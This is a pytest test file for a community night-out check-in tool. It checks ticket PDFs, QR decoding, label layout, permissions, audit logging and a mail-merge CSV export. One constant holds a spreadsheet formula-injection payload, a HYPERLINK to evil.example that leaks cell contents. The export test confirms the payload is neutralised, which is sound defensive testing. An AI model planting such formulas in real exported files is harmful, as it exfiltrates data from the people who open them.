"""Families' own tickets, read back: every QR on every page decodes to its household's code, names print in any
script and stay inside their ticket, merged duplicates get none; the mail-merge folder's pictures scan too."""

from __future__ import annotations

import csv
import html
import math
import re
import subprocess
import unicodedata
from pathlib import Path

import pypdf
import pytest
import zxingcpp
from PIL import Image

from nightout_desk.cli import main
from nightout_desk.db import Database
from nightout_desk.db.migrate import upgrade
from nightout_desk.printing import tickets as ticket_pdf
from nightout_desk.services import audit, events
from nightout_desk.services.checkin import attendee_import, households, tickets
from nightout_desk.services.context import Desk
from nightout_desk.services.errors import PermissionDenied
from tests.conftest import make_desk

SAMPLE = Path(__file__).resolve().parent.parent / "resources" / "samples" / "eventbrite_attendees.csv"
LONG_NAME = "Wolfeschlegelsteinhausenbergerdorff-Montmorency de la Vallée"
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Your ticket")'
_WORD = re.compile(r'<word xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">(.*?)</word>')


def _families(desk: Desk) -> dict[str, str]:
    """The night's families (the Eventbrite sample and a few hard names); family name -> ticket code."""
    attendee_import.run(desk, SAMPLE)
    for family, first in ((LONG_NAME, "Maximiliana-Alexandrina, Bartholomew, Christopher, Anastasia"),
                          ("李", "小龙"), ("حداد", "محمد"), ("Ng", "")):
        households.add_household(desk, family_name=family, first_names=first)
    dup = households.add_household(desk, family_name="Smith", first_names="Bob", phone="555 314 1592")
    kept = households.search(desk, "robert")[0]
    households.merge(desk, kept.id, dup.id)  # the duplicate gets no ticket of its own
    return {t.family_name: t.code for t in tickets.ticket_sheet(desk).tickets}


@pytest.fixture
def night(tmp_path) -> tuple[Path, dict[str, str]]:
    path = tmp_path / "night.sqlite3"
    db = Database(str(path))
    upgrade(db)
    families = _families(make_desk(db))
    db.dispose()
    return path, families


def _decoded_pages(pdf: Path, folder: Path) -> list[set[str]]:
    subprocess.run(["pdftoppm", "-r", "150", "-png", str(pdf), str(folder / "page")], check=True)
    return [{r.text for r in zxingcpp.read_barcodes(Image.open(p))} for p in sorted(folder.glob("page-*.png"))]


def _text(pdf: Path) -> str:
    return unicodedata.normalize("NFC", " ".join(p.extract_text() for p in pypdf.PdfReader(pdf).pages))


@pytest.mark.parametrize("stock_name", ["letter", "a4", "avery-5395", "dk-22205"])
def test_print_tickets_gives_every_family_one_ticket_whose_qr_scans_to_its_code(night, tmp_path, stock_name, capsys):
    db, families = night
    pdf = tmp_path / f"tickets-{stock_name}.pdf"
    assert main(["--db", str(db), "--operator", "Pat",
                 "print", "tickets", "--out", str(pdf), "--stock", stock_name]) == 0
    stock = ticket_pdf.ticket_stock(stock_name)
    pages = math.ceil(len(families) / stock.per_page)
    assert f"{len(families)} family tickets on {pages} pages of {stock_name} written to" in capsys.readouterr().out
    assert len(pypdf.PdfReader(pdf).pages) == pages
    decoded = _decoded_pages(pdf, tmp_path)
    order = list(families.values())  # the sheet's order: by family name
    for page in range(pages):
        assert decoded[page] == set(order[page * stock.per_page:(page + 1) * stock.per_page]), f"page {page + 1}"
    text = _text(pdf)
    flat = text.replace("\n", "").replace(" ", "")
    for family in families:
        assert family.replace(" ", "") in flat, family
    for code in families.values():
        assert f"{code[:4]}-{code[4:]}" in text  # the code in words, to read out when a phone will not scan
    assert "Riverside National Night Out 2026" in text and "Tuesday, August 4, 2026" in text
    assert "Riverside Park" in text and len(families) == 17  # 13 orders (Smith once: its duplicate has none) + 4


def test_every_word_stays_inside_its_ticket_on_a_letter_sheet(night, tmp_path):
    db, _families = night
    pdf = tmp_path / "tickets.pdf"
    assert main(["--db", str(db), "--operator", "Pat",
                 "print", "tickets", "--out", str(pdf)]) == 0
    stock = ticket_pdf.PAPER["letter"]
    boxes = []
    for slot in range(stock.per_page):
        x, y = stock.label_origin(slot)
        top = stock.page_h - y - stock.label_h  # pdftotext measures from the top
        boxes.append((x, top, x + stock.label_w, top + stock.label_h))
    layout = subprocess.run(["pdftotext", "-bbox", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    words = [(float(a), float(b), float(c), float(d), html.unescape(w)) for a, b, c, d, w in _WORD.findall(layout)]
    assert len(words) > 200
    for x0, y0, x1, y1, word in words:
        if word == "✂":
            continue
        centre = ((x0 + x1) / 2, (y0 + y1) / 2)
        box = next(b for b in boxes if b[0] <= centre[0] <= b[2] and b[1] <= centre[1] <= b[3])
        assert box[0] <= x0 and x1 <= box[2] and box[1] <= y0 and y1 <= box[3], word


def test_an_unknown_stock_or_a_volunteer_desk_is_told_in_one_line(night, tmp_path, capsys):
    db, _families = night
    assert main(["--db", str(db), "--operator", "Pat",
                 "print", "tickets", "--out", str(tmp_path / "t.pdf"), "--stock", "napkin"]) == 1
    assert "Unknown ticket stock “napkin”. Choose one of: letter, a4, avery-5392" in capsys.readouterr().err
    database = Database(str(db))
    try:
        volunteer = Desk(database, events.latest_event(database).id, "Val", "volunteer", "Desk 3")
        with pytest.raises(PermissionDenied):
            tickets.ticket_sheet(volunteer)
    finally:
        database.dispose()


def test_export_tickets_writes_a_mail_merge_csv_and_one_scannable_picture_per_family(tmp_path, capsys):
    db_path = tmp_path / "night.sqlite3"
    db = Database(str(db_path))
    upgrade(db)
    desk = make_desk(db)
    families = _families(desk)
    evil = households.add_household(desk, family_name=EVIL, first_names="@SUM(1+1)", email="evil@example.org")
    families[EVIL] = evil.ticket_code
    db.dispose()

    folder = tmp_path / "mail merge"
    assert main(["--db", str(db_path), "--operator", "Pat Organizer", "export-tickets", str(folder)]) == 0
    assert f"{len(families)} family tickets:" in capsys.readouterr().out
    raw = (folder / "tickets.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "a BOM so Excel reads UTF-8"
    with (folder / "tickets.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(families)
    by_code = {r["code"]: r for r in rows}
    garcia = by_code[families["García"]]
    assert (garcia["family_name"], garcia["first_names"], garcia["email"]) == (
        "García", "María, José, Lucía, Mateo", "maria.garcia@example.org")
    assert garcia["code_shown"] == f"{garcia['code'][:4]}-{garcia['code'][4:]}"
    assert garcia["qr_image"] == f"{garcia['code']}.png" and garcia["event"] == "Riverside National Night Out 2026"
    bad = by_code[evil.ticket_code]
    assert bad["family_name"] == "'" + EVIL and bad["first_names"] == "'@SUM(1+1)"  # never run as a formula
    for code in families.values():
        picture = Image.open(folder / f"{code}.png")
        assert [r.text for r in zxingcpp.read_barcodes(picture)] == [code]
    assert {p.stem for p in folder.glob("*.png")} == set(families.values())


def test_printing_and_exporting_tickets_is_in_the_audit_log(sqlite_desk, tmp_path):
    from nightout_desk.printing.ticket_files import write_mail_merge

    _families(sqlite_desk)
    sheet = tickets.ticket_sheet(sqlite_desk)
    write_mail_merge(sheet, tmp_path / "out")
    tickets.record(sqlite_desk, sheet, "exported", str(tmp_path / "out"))
    entries = audit.recent(sqlite_desk, action="family tickets exported")
    assert len(entries) == 1 and f"{len(sheet.tickets)} families' tickets exported" in entries[0].summary
